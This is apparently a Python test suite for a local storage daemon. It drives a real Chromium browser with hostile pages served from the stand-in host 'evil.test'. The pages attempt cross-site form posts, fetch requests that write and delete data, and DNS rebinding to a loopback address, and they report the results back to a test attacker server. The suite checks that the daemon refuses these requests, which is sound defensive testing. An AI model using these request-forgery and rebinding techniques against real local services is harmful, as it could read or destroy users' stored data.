"""Attacks by web pages in a real Chromium: cross-site requests, and DNS rebinding to a loopback address."""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import socket
import threading
from collections.abc import Iterator
from typing import Any

import requests

from tests.daemon.process import PATIENCE, Daemon, running
from tests.pages.browser import Browser, Tab
from tests.support import TempCase

# Runs `steps`, which push what they see to `seen`, and reports that.
_PAGE = """<!DOCTYPE html><body><script>
const seen = [], daemon = {daemon};
async function ask(path, settings) {{
  try {{
    const answer = await fetch(daemon + path, settings);
    seen.push([answer.type, answer.status, await answer.text(), answer.headers.get("ETag")]);
  }} catch (error) {{ seen.push(String(error)); }}
}}
function send(path, kind) {{
  return new Promise(sent => {{
    const frame = document.createElement("iframe"), form = document.createElement("form");
    frame.name = "frame" + Math.random();
    document.body.append(frame, form);
    Object.assign(form, {{action: daemon + path, method: "POST", enctype: kind, target: frame.name}});
    form.innerHTML = '<input name=\\'{{"key": "form\\' value=\\'"}}\\'>';
    frame.onload = () => {{ if (sent) sent(); }};
    form.submit();
  }});
}}
(async () => {{
  {steps}
  await fetch({report}, {{method: "POST", mode: "no-cors", body: JSON.stringify(seen)}});
}})();
</script></body>"""

_REFUSED = "TypeError: Failed to fetch"


class BrowserCase(TempCase):
    def setUp(self) -> None:
        super().setUp()
        self.attacker = _Attacker()
        self.addCleanup(self.attacker.stop)
        self.browser = Browser()
        self.addCleanup(self.browser.close)

    def page(self, daemon: str, steps: str) -> bytes:
        """A page that attacks the daemon at that URL, and reports to the attacker."""
        report = f"http://127.0.0.1:{self.attacker.server_address[1]}/"
        return _PAGE.format(daemon=json.dumps(daemon), report=json.dumps(report), steps=steps).encode()

    def browse(self, url: str) -> list[Any]:
        """Return the report of the page at `url`."""
        Tab(self.browser).open(url)
        self.assertTrue(self.attacker.reported.wait(PATIENCE), "the page does not report")
        seen = json.loads(self.attacker.report)
        assert isinstance(seen, list)
        return seen

    def statuses(self, daemon: Daemon, method: str, count: int) -> list[str]:
        """The statuses of `count` requests with `method`, in the order of the log."""
        return re.findall(rf" {method} \S+ ([0-9]+) ", "\n".join(daemon.lines_with(f" {method} ", count)))


class CrossSiteTest(BrowserCase):
    steps = """
      await send("/", "text/plain");
      await send("/kv/set", "text/plain");
      await ask("/", {method: "POST", mode: "no-cors", body: "from a page"});
      await ask("/kv/set", {method: "POST", mode: "no-cors", body: '{"other key": "fetch"}'});
      await ask("/kv/commit", {method: "POST", mode: "no-cors"});
      await ask("/data/pets", {method: "PUT", body: "from a page"});
      await ask("/" + HASH, {method: "DELETE"});
      await ask("/" + HASH);
    """

    def test_page_of_another_site_changes_nothing_and_reads_nothing(self) -> None:
        with self.attacked() as daemon:
            seen = self.seen(daemon)

            self.assertEqual(["opaque", 0, "", None], seen[0])
            self.assertEqual([_REFUSED] * 3, seen[3:])
            # They were sent, as far as a browser sends such; and refused by the daemon.
            self.assertEqual(["403"] * 5, self.statuses(daemon, "POST", 6)[1:])
            self.assertEqual(["405"] * 2, self.statuses(daemon, "OPTIONS", 2))
            self.assertEqual([self.hash], [path[3:] for path in self.files_below(self.directory / "store")])
            self.assertEqual(404, requests.get(f"{daemon.url}/kv/key").status_code)

    def test_page_of_an_allowed_origin_changes_and_reads(self) -> None:
        with self.attacked("--allow-origin", "http://app.test:{port}") as daemon:
            seen = self.seen(daemon, site="app.test")

            self.assertEqual([["cors", 201], ["cors", 200], ["cors", 404]], [each[:2] for each in seen[3:]])
            self.assertEqual(["200", "201", "200", "201", "204"], self.statuses(daemon, "POST", 6)[1:])
            self.assertEqual(["204"] * 2, self.statuses(daemon, "OPTIONS", 2))
            self.assertNotIn(self.hash[:2] + "/" + self.hash, self.files_below(self.directory / "store"))
            self.assertEqual({"key": "form="}, requests.get(f"{daemon.url}/kv/key").json())

    @contextlib.contextmanager
    def attacked(self, *options: str) -> Iterator[Daemon]:
        """A daemon with an object. The attacker's port stands for `{port}` in its options."""
        options = tuple(option.format(port=self.attacker.server_address[1]) for option in options)
        with running("--store", str(self.directory / "store"), "--workers", "1", *options) as daemon:
            self.hash = requests.post(daemon.url, data=b"secret").json()["hash"]
            yield daemon

    def seen(self, daemon: Daemon, site: str = "evil.test") -> list[Any]:
        self.attacker.page = self.page(daemon.url, self.steps.replace("HASH", json.dumps(self.hash)))
        return self.browse(f"http://{site}:{self.attacker.server_address[1]}/")


class RebindingTest(BrowserCase):
    """The attacker's name has two addresses. When its own is closed, the browser takes the other: the daemon's."""

    steps = """
      await ask("/" + HASH);
      await ask("/", {method: "POST", body: "from a page"});
      await ask("/" + HASH, {method: "DELETE"});
    """

    def test_rebound_name_reads_and_removes_nothing(self) -> None:
        with running("--store", str(self.directory / "store"), "--workers", "1") as daemon:
            seen = self.seen(daemon)

            self.assertEqual([["basic", 421]] * 3, [each[:2] for each in seen])
            self.assertIn("--host", seen[0][2])
            self.assertEqual(b"secret", requests.get(f"{daemon.url}/{self.hash}").content)
            self.assertEqual(1, len(self.files_below(self.directory / "store")))

    def test_name_given_by_host_option_reads_and_removes(self) -> None:
        with running("--store", str(self.directory / "store"), "--workers", "1", "--host", "evil.test") as daemon:
            seen = self.seen(daemon)

            self.assertEqual(["basic", 200, "secret", f'"{self.hash}"'], seen[0])
            self.assertEqual([["basic", 200]] * 2, [each[:2] for each in seen[1:]])
            self.assertEqual(404, requests.get(f"{daemon.url}/{self.hash}").status_code)

    def seen(self, daemon: Daemon) -> list[Any]:
        self.hash = requests.post(daemon.url, data=b"secret").json()["hash"]
        port = daemon.ports[0]
        bait = _Bait(("::1", port), self.page("", self.steps.replace("HASH", json.dumps(self.hash))))
        thread = threading.Thread(target=bait.serve)
        thread.start()
        try:
            return self.browse(f"http://evil.test:{port}/")
        finally:
            bait.served.set()
            thread.join(PATIENCE)


class _Attacker(http.server.ThreadingHTTPServer):
    """Serves a page, and receives its report."""

    def __init__(self) -> None:
        self.page = b""
        self.report = b""
        self.reported = threading.Event()
        super().__init__(("127.0.0.1", 0), _Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.shutdown()
        self.server_close()


class _Bait(http.server.HTTPServer):
    """Serves a page once, and then closes its listener."""

    address_family = socket.AF_INET6
    timeout = 0.1

    def __init__(self, address: Any, page: bytes) -> None:
        self.page = page
        self.served = threading.Event()
        super().__init__(address, _BaitHandler)

    def serve(self) -> None:
        # Browsers open connections on which they ask for nothing: those end by a timeout, or with the listener.
        while not self.served.is_set():
            self.handle_request()
        self.server_close()


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Any

    def do_GET(self) -> None:
        self.answer(self.server.page)

    def do_POST(self) -> None:
        self.server.report = self.rfile.read(int(self.headers["Content-Length"]))
        self.answer(b"")
        self.server.reported.set()

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        for name, value in (("Content-Type", "text/html"), ("Content-Length", str(len(body))), ("Connection", "close")):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


class _BaitHandler(_Handler):
    # A busy browser takes seconds from its connection to the request.
    timeout = 5

    def do_GET(self) -> None:
        self.server.server_close()
        self.answer(self.server.page)
        self.server.served.set()
